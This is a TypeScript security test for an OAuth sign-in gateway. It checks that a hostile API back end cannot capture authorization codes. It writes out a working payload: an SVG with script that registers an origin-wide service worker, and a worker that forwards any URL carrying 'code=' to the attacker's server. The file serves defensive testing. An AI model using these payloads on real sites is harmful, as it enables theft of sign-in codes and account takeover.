import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { startUpstream, type TestUpstream } from '../../src/gateway/testing/upstream.ts';
import { seededClients } from '../../src/seed/applications.ts';
import { launchBrowser } from '../testing/browser.ts';
import { addBrowserApplication } from '../testing/browser-application.ts';
import { freePorts } from '../testing/free-port.ts';
import { startInstance, type TestInstance } from '../testing/instance.ts';
import { Navigator } from '../testing/navigate.ts';

const definition = `openapi: 3.0.3
info: {title: Pictures, version: 1.0.0}
security: []
x-nhsd-apim: {access: []}
paths:
  /x.svg: {get: {responses: {'200': {description: A picture, headers: {Service-Worker-Allowed: {schema: {type: string}}}}}}}
  /sw.js: {get: {responses: {'200': {description: A script, headers: {Service-Worker-Allowed: {schema: {type: string}}}}}}}
`;

/** A picture that registers a service worker for its whole origin. Its load waits for the end of the attempt, if its script runs. */
const picture = (attacker: string) => `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">
  <image href="${attacker}/hold" width="9" height="9"/>
  <script>
    const settled = (how) => fetch('${attacker}/settled/' + how, { mode: 'no-cors' });
    (async () => {
      const registered = await navigator.serviceWorker.register('/pictures/sw.js', { scope: '/' });
      const worker = registered.installing ?? registered.waiting ?? registered.active;
      if (worker.state !== 'activated')
        await new Promise((done) => { worker.onstatechange = () => worker.state === 'activated' &amp;&amp; done(); });
    })().then(() => settled('registered'), (error) => settled(error.name));
  </script>
</svg>`;

/** A service worker that sends each address with a code to the attacker, and keeps it from the platform. */
const worker = (attacker: string) => `
  oninstall = () => skipWaiting();
  onactivate = (event) => event.waitUntil(clients.claim());
  onfetch = (event) => {
    if (!event.request.url.includes('code=')) return;
    event.respondWith(
      fetch('${attacker}/caught?url=' + encodeURIComponent(event.request.url), { mode: 'no-cors' })
        .then(() => new Response('caught')),
    );
  };
`;

/** The server behind an API by definition, whose owner wants to sign in as others. */
async function startAttacker(): Promise<TestUpstream> {
  const script = {
    'service-worker-allowed': '/',
    'content-security-policy': "default-src * 'unsafe-inline'",
  };
  const held: (() => void)[] = [];
  let settled = 0;
  const attacker = await startUpstream(({ url = '' }, response) => {
    const answer = (type: string, body = '') =>
      void response.writeHead(200, { ...script, 'content-type': type }).end(body);
    if (url === '/x.svg') return answer('image/svg+xml', picture(attacker.url));
    if (url === '/sw.js') return answer('text/javascript', worker(attacker.url));
    if (url === '/hold' && settled-- <= 0) return void held.push(() => answer('image/png'));
    if (url.startsWith('/settled/') && settled++ < 0) held.shift()?.();
    return answer('text/plain');
  });
  return attacker;
}

const verifier = 'a-verifier-of-43-characters-or-more-000000000';
const challenge = createHash('sha256').update(verifier).digest('base64url');

for (const place of ['an origin of their own', 'the origin of the platform'] as const)
  describe(`a hostile back end of an API by definition, with ${place}`, () => {
    let instance: TestInstance;
    let browser: Browser;
    let attacker: TestUpstream;
    let client: string;
    before(async () => {
      const base = await freePorts(10, 22_000, 23_000);
      const shared = { portBase: base, metricsPort: 'off', urlApis: `http://localhost:${base + 1}` };
      [instance, browser, attacker] = await Promise.all([
        startInstance(place === 'the origin of the platform' ? shared : {}),
        launchBrowser(),
        startAttacker(),
      ]);
      await instance.signInAtDesk('gp');
      const files = { 'pictures.yaml': definition };
      await instance.api('POST', '/apis', {
        entry: 'pictures.yaml',
        files,
        basePath: '/pictures',
        upstream: attacker.url,
      });
      client = await addBrowserApplication(instance, 'platform', {
        callbackUrls: [`${instance.urls.sample}/public`],
        products: ['personal-demographics-service'],
      });
    });
    after(async () => {
      await browser?.close();
      await instance?.stop();
      await attacker?.stop();
    });

    /** Opens the picture, and then the second step of a sign-in that the attacker began. Returns the requests to the attacker. */
    async function attack(path: '/oauth2' | '/oauth2.1', { bypassCSP = false } = {}): Promise<string[]> {
      const context = await browser.newContext({ bypassCSP });
      const page = await context.newPage();
      const before = attacker.requests.length;
      await page.goto(`${instance.urls.apis}/pictures/x.svg`);
      const request = {
        response_type: 'code',
        state: 'of-the-attacker',
        ...(path === '/oauth2'
          ? {
              client_id: seededClients.combined.clientId,
              redirect_uri: `${instance.urls.sample}/combined/callback`,
            }
          : {
              client_id: client,
              redirect_uri: `${instance.urls.sample}/public`,
              scope: 'urn:nhsd:apim:user-nhs-cis2:aal3:personal-demographics-service',
              code_challenge: challenge,
              code_challenge_method: 'S256',
            }),
      };
      const { address } = await new Navigator().go(
        `${instance.urls.api}${path}/authorize?${new URLSearchParams(request)}`,
        `${instance.urls.cis2Issuer}/authorize`,
      );
      const callback = `${instance.urls.api}${path}/callback?`;
      const [reached] = await Promise.all([
        page.waitForResponse((response) => response.url().startsWith(callback)),
        page.goto(address),
      ]);
      assert.match(reached.url(), /[?&]code=/, 'the user was signed in without a question');
      await context.close();
      const seen = attacker.requests.slice(before).map(({ url }) => url);
      assert.ok(seen.includes('/x.svg'), 'the picture was shown');
      assert.equal(reached.fromServiceWorker(), false, 'the platform itself answered');
      return seen;
    }

    for (const path of ['/oauth2', '/oauth2.1'] as const) {
      test(`runs no script and gets no code of a sign-in of ${path}`, async () => {
        assert.deepEqual(await attack(path), ['/x.svg']);
      });

      test(`registers no worker for a sign-in of ${path} in a browser that ignores its policy`, async () => {
        const [picture, ...others] = await attack(path, { bypassCSP: true });
        assert.deepEqual([picture, ...others.sort()], ['/x.svg', '/hold', '/settled/TypeError']);
      });
    }
  });
